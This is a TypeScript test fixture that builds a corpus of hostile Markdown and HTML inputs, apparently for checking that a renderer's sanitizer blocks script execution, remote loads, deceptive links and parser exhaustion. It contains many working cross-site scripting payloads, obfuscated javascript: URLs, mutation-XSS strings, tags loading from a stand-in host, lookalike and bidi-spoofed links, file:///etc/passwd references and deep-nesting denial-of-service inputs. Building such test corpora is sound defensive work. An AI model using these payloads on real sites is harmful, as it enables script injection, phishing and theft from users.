/** The code that runs if script injection succeeds, and the host that receives requests if loading succeeds. */
const run = 'alert(1)'
const away = 'https://tracker.example'
const image = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`

/** URLs that parsers are known to mistake for others. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;&#97;vascript:${run}`,
  `&#0000106avascript:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java&#10;script:${run}`,
  `java\\script:${run}`,
  `\u0001javascript:${run}`,
  `\u00A0javascript:${run}`,
  `\u202Ejavascript:${run}`,
  `%6Aavascript:${run}`,
  `javascript://example.com/%0A${run}`,
  `javascript:/*--></title></style></script><svg/onload='${run}'>`,
  `view-source:javascript:${run}`,
  `vbscript:msgbox(1)`,
  `VBSCRIPT&colon;msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+`,
  `blob:https://example.com/1`,
  `filesystem:https://example.com/temporary/1`,
  `file:///etc/passwd`,
  `//tracker.example/1`,
  `/\\tracker.example/1`,
  `http://tracker.example/1`,
  `https:tracker.example`,
  `https://good.example@tracker.example/1`,
  `https://good.example%2F@tracker.example/1`,
  `https://good.example\\@tracker.example/1`,
  `intent://tracker.example#Intent;end`,
  `mailto:a@b.example?attach=/etc/passwd`,
  `#/en/logout`,
] as const

const links = (address: string): string =>
  [
    `[words](${address})`,
    `[words](<${address}>)`,
    `[words](${address} "title' onmouseover='${run}")`,
    `<${address}>`,
    `![words](${address})`,
    `[![words](${address})](${address})`,
    `[words][ref]\n\n[ref]: ${address}`,
    `[ref]\n\n[ref]: <${address}> 'title" onclick="${run}'`,
  ].join('\n\n')

const tags = [
  `<script>${run}</script>`,
  `<script src="${away}/1.js"></script>`,
  `<img src=x onerror=${run}>`,
  `<img src="${away}/1.png" srcset="${away}/2.png 2x" loading=eager>`,
  `<picture><source srcset="${away}/3.webp"><img src="${away}/4.png"></picture>`,
  `<svg onload=${run}><script>${run}</script><image href="${away}/5.png"/></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<iframe src="${away}" srcdoc="<script>${run}</script>"></iframe>`,
  `<object data="${away}/6.swf"></object><embed src="${away}/7.swf">`,
  `<video src="${away}/8.mp4" poster="${away}/9.png" autoplay onplay=${run}></video><audio src="${away}/10.mp3" autoplay></audio>`,
  `<link rel=stylesheet href="${away}/11.css"><link rel=preconnect href="${away}"><link rel=dns-prefetch href="${away}">`,
  `<style>@import url(${away}/12.css); body{background:url(${away}/13.png)}</style>`,
  `<div style="background:url(${away}/14.png)" onclick=${run}>words</div>`,
  `<meta http-equiv=refresh content="0;url=${away}"><base href="${away}/">`,
  `<form action="${away}"><input name=password autofocus onfocus=${run}><button formaction=javascript:${run}>Go</button></form>`,
  `<details open ontoggle=${run}><summary>words</summary></details>`,
  `<body onload=${run}><marquee onstart=${run}>words</marquee>`,
  `<template><img src=x onerror=${run}></template><noscript><img src=x onerror=${run}></noscript>`,
  `<a href="javascript:${run}" target=_self ping="${away}">words</a>`,
  `<x-element slot=prose data-slot=prose id=root class="fixed inset-0">words</x-element>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?xml-stylesheet href="${away}/15.xsl"?>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<<script>${run}//<</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
] as const

/** Returns a tag in every Markdown context. */
const hidden = (tag: string): string =>
  [
    tag,
    `words ${tag} words`,
    `> ${tag}`,
    `- ${tag}\n  - ${tag}`,
    `# ${tag}`,
    `| ${tag.replaceAll('|', '')} |\n| --- |\n| ${tag.replaceAll('|', '')} |`,
    `\`${tag}\``,
    `\`\`\`html\n${tag}\n\`\`\``,
    `\`\`\`html"><img src=x onerror=${run}>\n${tag}`,
    `    ${tag}`,
    `[${tag}](https://example.com)`,
    `![${tag}](${away}/16.png)`,
    `[^1]: ${tag}\n\nA note[^1], $${tag}$ and $$\n${tag}\n$$`,
    `~~${tag}~~ **${tag}** _${tag}_`,
  ].join('\n\n')

const controls =
  '\u0000\u0008\u001B[31m\u200B\u2028\u2029\u202A\u202E\u2066\u2067\u2069\uFEFF\uFFFC0\uFFFC\uFFFF\u{E0041}'

/** Malicious Markdown: it must not run, load anything, hide a destination or block the page. */
export const hostileTexts: readonly (readonly [name: string, text: string])[] = [
  ...addresses.map((address) => [`links to ${JSON.stringify(address)}`, links(address)] as const),
  ...tags.map((tag) => [`the tag ${tag.slice(0, 40)}`, hidden(tag)] as const),
  [
    'pictures',
    `![a](${away}/1.png) ![b](${image}) ![c](blob:x) ![d](/favicon.svg) ![e](x "t" onerror=${run})`,
  ],
  [
    'addresses on their own',
    `${away}/1 www.tracker.example tracker.example a@tracker.example <${away}> <a@b.example>`,
  ],
  [
    'hosts that look like others',
    '[bank.example](https://bаnk.example) [bank.example](https://bank.example.tracker.example) [https://bank.example/\u202Egro](https://tracker.example)',
  ],
  [
    'words that hide where a link leads',
    `[${'\u00A0'.repeat(200)}](${away}) [](${away}) [\u200B](${away}) [bank.example${' '.repeat(300)}](${away})`,
  ],
  [
    'control characters',
    `${controls}[${controls}](${away}${controls})${controls}\n\n# ${controls}\n\n\`${controls}\``,
  ],
  ['marks that stack', `${'Z\u0351\u036B\u0343'.repeat(500)} ${'ـ'.repeat(2000)} ${'﷽'.repeat(200)}`],
  ['directions that pile up', '\u202E\u2067\u202B'.repeat(3000)],
  ['deep quotations', `${'>'.repeat(5000)} words`],
  ['deep lists', Array.from({ length: 300 }, (_, depth) => `${'  '.repeat(depth)}- words`).join('\n')],
  ['deep emphasis', `${'*a **b '.repeat(3000)}${'b** a* '.repeat(3000)}`],
  ['deep links', `${'['.repeat(5000)}words${'](https://example.com)'.repeat(5000)}`],
  ['deep pictures', `${'!['.repeat(5000)}words${'](x)'.repeat(5000)}`],
  ['deep tags', `${'<div>'.repeat(5000)}words`],
  [
    'a table without end',
    `${'|a'.repeat(300)}|\n${'|-'.repeat(300)}|\n${`${'|a'.repeat(300)}|\n`.repeat(5)}`,
  ],
  [
    'names of what objects have',
    '[a][__proto__] [b][constructor] [toString]\n\n[__proto__]: https://example.com\n\n```__proto__\nx\n```\n\n&constructor; &__proto__;',
  ],
  ['definitions without end', Array.from({ length: 2000 }, (_, at) => `[${at}]: ${away}/${at}`).join('\n')],
  ['a line of a megabyte', 'a'.repeat(1_000_000)],
  ...['`', '*', '_', '[', ']', '<', '&#', '|', '~', '\\', '$', '!['].map(
    (mark) => [`a hundred thousand ${mark}`, mark.repeat(100_000)] as const,
  ),
]
